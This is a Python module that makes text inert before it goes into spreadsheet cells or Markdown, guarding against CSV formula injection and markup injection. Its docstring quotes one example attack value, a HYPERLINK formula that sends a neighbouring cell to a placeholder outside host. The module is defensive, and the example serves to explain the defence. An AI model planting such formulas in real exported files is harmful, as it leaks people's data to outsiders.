"""Text bound for a spreadsheet or a Markdown page, made inert there.

A spreadsheet program runs a cell that starts with `=`, `+`, `-` or `@` (or a tab or carriage
return before one) as a formula: a patient named `=HYPERLINK("http://x/?"&A2,"Ada")` in a CSV a
coordinator opens in Excel sends the next cell to a stranger. As OWASP advises for CSV
injection, such a cell is written with a leading `'`, which the spreadsheet shows as text; a
plain number (d2a's counts and figures) is left a number.

Markdown turns punctuation into links, images (fetched from anywhere when the page is viewed),
emphasis and raw HTML. Every ASCII punctuation character may be escaped with a backslash in
CommonMark, and an escaped one is always shown as itself: escaping every one that could start
markup where it stands makes any text read back as exactly that text, never markup (a property
test renders it to check).
"""

from __future__ import annotations

import re
import string

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"-?\d+(\.\d+)?")
_PUNCTUATION = frozenset(string.punctuation)


def spreadsheet_cell(value: str) -> str:
    """`value` as a spreadsheet shows it and never runs it."""
    if value.startswith(FORMULA_START) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def markdown_text(value: str) -> str:
    """`value` as Markdown that shows exactly that text, on one line (a table cell's)."""
    out = []
    for index, character in enumerate(value):
        if character in "\r\n" or not character.isprintable():
            out.append(" ")
        elif character in _PUNCTUATION and _markup(value, index):
            out.append("\\" + character)
        else:
            out.append(character)
    return "".join(out)


# Punctuation that starts no markup where it stands, left as it is so that the file reads well
# as plain text too: a time (09:30), a list of wards, a bracketed zone. Everything else escaped.
_PLAIN = frozenset(",.;:'\"?%=/()-+")


def _markup(value: str, index: int) -> bool:
    character = value[index]
    if character not in _PLAIN:
        return True
    before = value[:index]
    if character == ":":  # a bare web address is a link in GitHub's Markdown
        return value.startswith("//", index + 1)
    if character == "." and before[-3:].lower() == "www":
        return True
    if character in "-+":  # a list item or a rule only at the start of a line
        return not before.strip(" ")
    # "12." or "3)" at the start is an ordered list's number
    return character in ".)" and before.isdigit()
